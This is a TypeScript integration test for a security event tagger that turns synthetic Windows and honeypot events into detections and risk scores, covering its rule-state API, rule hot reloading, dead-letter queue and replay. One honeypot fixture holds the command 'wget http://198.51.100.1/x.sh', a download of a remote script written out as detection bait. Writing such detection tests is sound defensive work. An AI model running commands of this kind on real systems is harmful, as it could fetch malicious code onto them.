/**
 * The tagger on the real broker and Redis: events in → detections and entity-keyed risk
 * contributions out; rule state set through the API applies live and expires by event time;
 * rule files hot-reload per file while events flow; bad events go to the DLQ; a replay after a
 * restart re-produces identical ids.
 */
import 'reflect-metadata';
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { NestFactory } from '@nestjs/core';
import type { INestApplication } from '@nestjs/common';
import type { Admin, Kafka } from 'kafkajs';
import {
  topicNames,
  topicPlan,
  type Detection,
  type DeadLetter,
  type RiskContribution,
  type TopicNames,
} from '@riskline/contracts';
import { JsonLogger, loadConfig, serveApiDocs, ServiceHostModule } from '@riskline/service-host';
import { connectRedis, createKafka, createRedis, ensureTopics, silentLog } from '@riskline/stream-runtime';
import { TopicCollector, testBrokers, testRedisUrl, uniqueName } from '@riskline/stream-runtime/testing';
import { TaggerConfig } from './tagger.config';
import { TaggerModule } from './tagger.module';

const TOKEN = 'tagger-test-token-0123456789';
const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const BUNDLED = resolve(__dirname, '../../../rules');
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

function proc(
  id: string,
  at: string,
  user: string,
  image: string,
  commandLine = image,
): Record<string, unknown> {
  return {
    event_id: id,
    '@timestamp': at,
    EventID: 1,
    Channel: SYSMON,
    Computer: 'WS-042',
    User: user,
    Image: image,
    CommandLine: commandLine,
  };
}

describe('tagger (real Kafka + Redis)', () => {
  const run = uniqueName('it-tagger');
  const env: Record<string, string> = {};
  let topics: TopicNames;
  let kafka: Kafka;
  let admin: Admin;
  let collector: TopicCollector;
  let rulesDir: string;
  let app: INestApplication | null = null;
  let base = '';

  async function startTagger(): Promise<void> {
    const config = loadConfig(TaggerConfig, {
      KAFKA_BROKERS: testBrokers().join(','),
      REDIS_URL: testRedisUrl(),
      RISKLINE_API_TOKEN: TOKEN,
      RULES_DIRS: rulesDir,
      RULES_POLL_MS: '100',
      MAX_EVENT_BYTES: '4096',
      CONSUMER_GROUP_PREFIX: run,
      CHECKPOINT_INTERVAL_MS: '500',
    });
    const logger = new JsonLogger('tagger-it', 'warn', () => undefined);
    app = await NestFactory.create(
      TaggerModule.forRoot(config, ServiceHostModule.forRoot({ service: 'tagger', config, logger })),
      { logger: false },
    );
    app.enableShutdownHooks();
    serveApiDocs(app, 'tagger');
    await app.listen(0, '127.0.0.1');
    base = `http://127.0.0.1:${(app.getHttpServer().address() as { port: number }).port}`;
    const deadline = Date.now() + 60_000;
    while ((await fetch(`${base}/readyz`)).status !== 200) {
      if (Date.now() > deadline) throw new Error('tagger not ready');
      await new Promise((r) => setTimeout(r, 200));
    }
  }

  async function stopTagger(): Promise<void> {
    await app?.close();
    app = null;
  }

  async function send(events: (Record<string, unknown> | string)[], key = 'k'): Promise<void> {
    const producer = kafka.producer();
    await producer.connect();
    await producer.send({
      topic: topics.events,
      messages: events.map((e) => ({
        key,
        value: typeof e === 'string' ? e : JSON.stringify(e),
        headers: { traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01' },
      })),
    });
    await producer.disconnect();
  }

  const detections = () => collector.of(topics.detections).map((r) => r.value as Detection);
  const detectionFor = (eventId: string) => detections().filter((d) => d.source.event_id === eventId);
  const waitDetection = (eventId: string) =>
    collector.waitFor(() => detectionFor(eventId).length > 0, 20_000, `detection of ${eventId}`);

  async function api(
    method: string,
    path: string,
    body?: unknown,
    token = TOKEN,
  ): Promise<{ status: number; body: unknown }> {
    const response = await fetch(`${base}${path}`, {
      method,
      headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    return { status: response.status, body: await response.json() };
  }

  async function rulesGeneration(): Promise<number> {
    return ((await api('GET', '/api/v1/rules')).body as { generation: number }).generation;
  }

  beforeAll(async () => {
    for (const id of [
      'EVENTS',
      'DETECTIONS',
      'RISK_CONTRIBUTIONS',
      'RULE_STATE',
      'CORRELATION_INPUTS',
    ] as const) {
      env[`RISKLINE_TOPIC_${id}`] = uniqueName(`it.tagger.${id.toLowerCase()}`);
      process.env[`RISKLINE_TOPIC_${id}`] = env[`RISKLINE_TOPIC_${id}`];
    }
    topics = topicNames(process.env);
    kafka = createKafka({ clientId: 'it-tagger', brokers: testBrokers(), log: silentLog });
    admin = kafka.admin();
    await admin.connect();
    await ensureTopics(
      admin,
      topicPlan(topics, 3).filter((t) => Object.values(env).some((name) => t.name.startsWith(name))),
    );
    collector = new TopicCollector(kafka, [
      topics.detections,
      topics.riskContributions,
      `${topics.events}.dlq`,
    ]);
    await collector.start();
    rulesDir = mkdtempSync(join(tmpdir(), 'tagger-rules-'));
    cpSync(BUNDLED, rulesDir, { recursive: true });
    await startTagger();
  }, 120_000);

  afterAll(async () => {
    await stopTagger();
    await collector.stop();
    await admin.disconnect();
    rmSync(rulesDir, { recursive: true, force: true });
    for (const key of Object.keys(env)) delete process.env[key];
  });

  it('turns events into detections and entity-keyed contributions with scores', async () => {
    await send([
      proc('e-whoami', '2026-02-01T10:00:00Z', 'CORP\\svc-backup', 'C:\\Windows\\System32\\whoami.exe'),
      proc('e-benign', '2026-02-01T10:00:01Z', 'CORP\\user001', 'C:\\Windows\\System32\\notepad.exe'),
      {
        event_id: 'e-hp',
        '@timestamp': '2026-02-01T10:00:02Z',
        source_kind: 'honeypot.command',
        src_ip: '203.0.113.77',
        command: 'wget http://198.51.100.1/x.sh',
      },
    ]);
    await waitDetection('e-hp');
    await waitDetection('e-whoami');
    const [whoami] = detectionFor('e-whoami');
    expect(whoami).toEqual(
      expect.objectContaining({
        rule_id: 'riskline-discovery-whoami',
        level: 'low',
        score: 10,
        confidence: 1,
        tactics: ['discovery'],
        techniques: ['T1033'],
        event_time: '2026-02-01T10:00:00.000Z',
        entities: [
          { type: 'user', value: 'corp\\svc-backup' },
          { type: 'host', value: 'ws-042' },
        ],
      }),
    );
    const detectionRecord = collector
      .of(topics.detections)
      .find((r) => (r.value as Detection).detection_id === whoami!.detection_id)!;
    expect(detectionRecord.key).toBe('user:corp\\svc-backup');
    expect(detectionRecord.headers['traceparent']).toBe(
      '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
    );
    await collector.waitFor(
      () =>
        collector
          .of(topics.riskContributions)
          .filter((r) => (r.value as RiskContribution).detection_id === whoami!.detection_id).length === 2,
    );
    const contributions = collector
      .of(topics.riskContributions)
      .filter((r) => (r.value as RiskContribution).detection_id === whoami!.detection_id);
    expect(contributions.map((c) => [c.key, (c.value as RiskContribution).score]).sort()).toEqual([
      ['host:ws-042', 10],
      ['user:corp\\svc-backup', 10],
    ]);
    expect(detectionFor('e-hp')[0]).toEqual(
      expect.objectContaining({
        rule_kind: 'native',
        rule_id: 'riskline-native-honeypot-download',
        confidence: 0.9,
        score: 45,
      }),
    );
    expect(detectionFor('e-benign')).toEqual([]);
  }, 60_000);

  it('opens Splunk HEC envelopes: Windows event XML fires as the flat event does', async () => {
    const xml =
      "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>" +
      "<Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID><EventRecordID>4711</EventRecordID>" +
      "<TimeCreated SystemTime='2026-02-01T11:00:00.000Z'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>" +
      "<Computer>ws-042</Computer></System><EventData><Data Name='User'>CORP\\svc-backup</Data>" +
      "<Data Name='Image'>C:\\Windows\\System32\\whoami.exe</Data></EventData></Event>";
    await send([
      { time: 1769943600, host: 'ws-042', sourcetype: 'XmlWinEventLog', index: 'wineventlog', event: xml },
    ]);
    const id = 'win:ws-042/Microsoft-Windows-Sysmon/Operational/4711';
    await waitDetection(id);
    expect(detectionFor(id)[0]).toEqual(
      expect.objectContaining({
        rule_id: 'riskline-discovery-whoami',
        event_time: '2026-02-01T11:00:00.000Z',
        entities: [
          { type: 'user', value: 'corp\\svc-backup' },
          { type: 'host', value: 'ws-042' },
        ],
      }),
    );
  }, 60_000);

  it('documents its API as OpenAPI at /api/docs, with request bodies from their validating classes', async () => {
    const json = await fetch(`${base}/api/docs/openapi.json`);
    expect(json.status).toBe(200);
    const doc = (await json.json()) as {
      openapi: string;
      paths: Record<
        string,
        Record<string, { requestBody?: { content: Record<string, { schema: { properties: object } }> } }>
      >;
      components: { securitySchemes: Record<string, unknown> };
    };
    expect(doc.openapi).toMatch(/^3\./);
    expect(Object.keys(doc.paths).sort()).toEqual([
      '/api/v1/risk-config',
      '/api/v1/rules',
      '/api/v1/rules/{id}/state',
    ]);
    const body =
      doc.paths['/api/v1/rules/{id}/state']!['post']!.requestBody!.content['application/json']!.schema;
    expect(Object.keys(body.properties)).toEqual(
      expect.arrayContaining(['state', 'confidence_max', 'reason', 'expires_at']),
    );
    expect(doc.components.securitySchemes).toHaveProperty('bearer');
    const ui = await (await fetch(`${base}/api/docs`)).text();
    expect(ui).toContain('swagger-ui');
    // Everything from this server: no script, style or font from elsewhere.
    expect(ui.match(/(src|href)="https?:\/\//g)).toBeNull();
  });

  it('shows its effective risk config: exclusions, canonical forms and factors with their defaults', async () => {
    expect((await api('GET', '/api/v1/risk-config', undefined, '')).status).toBe(401);
    const { status, body } = await api('GET', '/api/v1/risk-config');
    expect(status).toBe(200);
    const config = body as {
      entities: Record<string, { exclude: string[]; exclude_ranges: string[] }>;
      normalize: { user: { format: string } };
      risk_factors: { name: string; enabled: boolean }[];
    };
    expect(config.entities['user']!.exclude).toContain('nt authority\\*');
    expect(config.entities['src_ip']!.exclude_ranges).toContain('loopback');
    expect(config.normalize.user.format).toBe('down_level');
    expect(config.risk_factors.map((f) => [f.name, f.enabled])).toEqual([
      ['privileged-identity', false],
      ['critical-asset', false],
      ['watchlisted', false],
    ]);
  });

  it('guards the API: 401 without a token, 400 with field paths', async () => {
    expect((await api('GET', '/api/v1/rules', undefined, '')).status).toBe(401);
    expect((await api('GET', '/api/v1/rules', undefined, 'wrong-token-0123456789')).status).toBe(401);
    const bad = await api('POST', '/api/v1/rules/riskline-discovery-whoami/state', {
      state: 'clipped',
      confidence_max: 2,
      expires_at: 'soon',
      reason: 'x',
    });
    expect(bad.status).toBe(400);
    expect((bad.body as { fields: { path: string }[] }).fields.map((f) => f.path).sort()).toEqual([
      'confidence_max',
      'expires_at',
    ]);
  });

  it('applies rule state live: clipped lowers confidence and score, expiry reverts by event time, disabled never fires', async () => {
    const set = await api('POST', '/api/v1/rules/riskline-discovery-whoami/state', {
      state: 'clipped',
      confidence_max: 0.3,
      expires_at: '2026-02-02T00:00:00Z',
      reason: 'noisy admins',
      set_by: 'it',
    });
    expect(set.status).toBe(202);
    await sleep(1500); // let every instance read it
    await send([
      proc('e-clipped', '2026-02-01T12:00:00Z', 'CORP\\admin1', 'C:\\Windows\\System32\\whoami.exe'),
      proc('e-expired', '2026-02-03T12:00:00Z', 'CORP\\admin1', 'C:\\Windows\\System32\\whoami.exe'),
    ]);
    await waitDetection('e-expired');
    await waitDetection('e-clipped');
    expect(detectionFor('e-clipped')[0]).toEqual(expect.objectContaining({ confidence: 0.3, score: 3 }));
    expect(detectionFor('e-expired')[0]).toEqual(expect.objectContaining({ confidence: 1, score: 10 }));

    expect(
      (
        await api('POST', '/api/v1/rules/riskline-discovery-whoami/state', {
          state: 'disabled',
          reason: 'off',
        })
      ).status,
    ).toBe(202);
    await sleep(1500);
    await send([
      proc('e-disabled', '2026-02-04T12:00:00Z', 'CORP\\admin1', 'C:\\Windows\\System32\\whoami.exe'),
      proc(
        'e-marker-1',
        '2026-02-04T12:00:01Z',
        'CORP\\admin1',
        'C:\\Windows\\System32\\nltest.exe',
        'nltest /dclist:corp',
      ),
    ]);
    await waitDetection('e-marker-1');
    expect(detectionFor('e-disabled')).toEqual([]);
    const listed = (await api('GET', '/api/v1/rules')).body as { rules: { id: string; state: string }[] };
    expect(listed.rules.find((r) => r.id === 'riskline-discovery-whoami')?.state).toBe('disabled');

    expect((await api('DELETE', '/api/v1/rules/riskline-discovery-whoami/state')).status).toBe(202);
    await sleep(1500);
    await send([
      proc('e-enabled', '2026-02-04T13:00:00Z', 'CORP\\admin1', 'C:\\Windows\\System32\\whoami.exe'),
    ]);
    await waitDetection('e-enabled');
    expect(detectionFor('e-enabled')[0]?.confidence).toBe(1);
  }, 60_000);

  it('hot-reloads rule files per file while events flow, and survives a broken file', async () => {
    const file = join(rulesDir, 'sigma', 'added.yml');
    const rule = (level: string) =>
      `title: Added\nid: it-added\nlevel: ${level}\ntags: [attack.execution]\nlogsource: {category: process_creation, product: windows}\ndetection: {sel: {Image|endswith: '\\calc.exe'}, condition: sel}\n`;
    let generation = await rulesGeneration();
    writeFileSync(file, rule('medium'));
    const waitReload = async () => {
      const deadline = Date.now() + 5000;
      while ((await rulesGeneration()) === generation) {
        if (Date.now() > deadline) throw new Error('rules not reloaded within 5 s');
        await new Promise((r) => setTimeout(r, 50));
      }
      generation = await rulesGeneration();
    };
    const t0 = Date.now();
    await waitReload();
    expect(Date.now() - t0).toBeLessThan(1000);
    await send([proc('e-added', '2026-02-05T10:00:00Z', 'CORP\\user9', 'C:\\Windows\\System32\\calc.exe')]);
    await waitDetection('e-added');
    expect(detectionFor('e-added')[0]?.level).toBe('medium');

    writeFileSync(file, rule('critical'));
    writeFileSync(join(rulesDir, 'sigma', 'broken.yml'), 'title: [unclosed');
    writeFileSync(
      join(rulesDir, 'sigma', 'macos.yml'),
      rule('high').replace('id: it-added', 'id: it-macos').replace('product: windows', 'product: macos'),
    );
    await waitReload();
    await send([proc('e-edited', '2026-02-05T10:01:00Z', 'CORP\\user9', 'C:\\Windows\\System32\\calc.exe')]);
    await waitDetection('e-edited');
    expect(detectionFor('e-edited')[0]?.level).toBe('critical');
    const listed = (await api('GET', '/api/v1/rules')).body as {
      counts: Record<string, number>;
      rules: { id: string; status: string }[];
      load_errors: { source: string }[];
    };
    // Shown relative to its rules dir: the API does not disclose the host's layout.
    expect(listed.load_errors.map((e) => e.source)).toEqual([join('sigma', 'broken.yml')]);
    expect(listed.rules.length).toBe(15);
    // A rule no log source mapping covers is not counted as loaded, and says why.
    expect(listed.counts).toEqual({ loaded: 14, unmapped: 1, failed: 1 });
    expect(listed.rules.filter((r) => r.status === 'unmapped').map((r) => r.id)).toEqual(['it-macos']);
    const metrics = await (await fetch(`${base}/metrics`)).text();
    expect(metrics).toContain('riskline_rules{status="unmapped"} 1');
    expect(metrics).toContain('riskline_rules{status="loaded"} 14');
    rmSync(join(rulesDir, 'sigma', 'macos.yml'));

    rmSync(file);
    await waitReload();
    await send([
      proc('e-deleted', '2026-02-05T10:02:00Z', 'CORP\\user9', 'C:\\Windows\\System32\\calc.exe'),
      proc(
        'e-marker-2',
        '2026-02-05T10:02:01Z',
        'CORP\\user9',
        'C:\\Windows\\System32\\nltest.exe',
        'nltest /dclist:corp',
      ),
    ]);
    await waitDetection('e-marker-2');
    expect(detectionFor('e-deleted')).toEqual([]);
  }, 60_000);

  it('sends events that are not JSON objects, or too large, to the DLQ with the reason', async () => {
    await send([
      '{"broken": ',
      '[1,2,3]',
      JSON.stringify({ pad: 'x'.repeat(5000) }),
      JSON.stringify({ sourcetype: 'XmlWinEventLog', event: '<Event><System></Event>' }),
      proc(
        'e-marker-3',
        '2026-02-06T00:00:00Z',
        'CORP\\u',
        'C:\\Windows\\System32\\nltest.exe',
        'nltest /dclist:x',
      ) as never,
    ]);
    await waitDetection('e-marker-3');
    await collector.waitFor((r) => r.filter((x) => x.topic === `${topics.events}.dlq`).length >= 4);
    const reasons = collector.of(`${topics.events}.dlq`).map((r) => (r.value as DeadLetter).reason);
    expect(reasons.map((r) => r.kind)).toEqual(['invalid_json', 'not_an_object', 'oversized', 'wrong_shape']);
    expect(reasons[3]!.message).toMatch(/^invalid event XML: /);
  }, 60_000);

  it('re-produces identical ids when the same events are processed again after a restart', async () => {
    const firstPass = new Set(detections().map((d) => d.detection_id));
    await stopTagger();
    // Forget everything the tagger knew: its checkpoints and its group's offsets.
    const redis = createRedis(testRedisUrl(), silentLog);
    await connectRedis(redis);
    const keys = await redis.keys(`riskline:checkpoint:{${run}-tagger:${topics.events}}:*`);
    if (keys.length) await redis.del(...keys);
    await redis.quit();
    await admin
      .resetOffsets({ groupId: `${run}-tagger`, topic: topics.events, earliest: true })
      .catch(() => undefined);
    // Rule state and rules as they were for the first pass of the first events.
    writeFileSync(join(rulesDir, 'sigma', 'broken.yml'), '');
    const before = detections().length;
    await startTagger();
    await collector.waitFor(() => detections().length >= before * 2 - 5, 30_000, 'the replayed detections');
    const replayed = detections().slice(before);
    const firstById = new Map(
      detections()
        .slice(0, before)
        .map((d) => [d.detection_id, d]),
    );
    // Every replayed detection of an event whose rules did not change since is a duplicate by id.
    const stable = replayed.filter(
      (d) => d.rule_id === 'riskline-native-honeypot-download' || d.rule_id === 'riskline-discovery-nltest',
    );
    expect(stable.length).toBeGreaterThan(0);
    for (const d of stable) {
      expect(firstPass.has(d.detection_id)).toBe(true);
      expect(d).toEqual(firstById.get(d.detection_id));
    }
  }, 90_000);
});
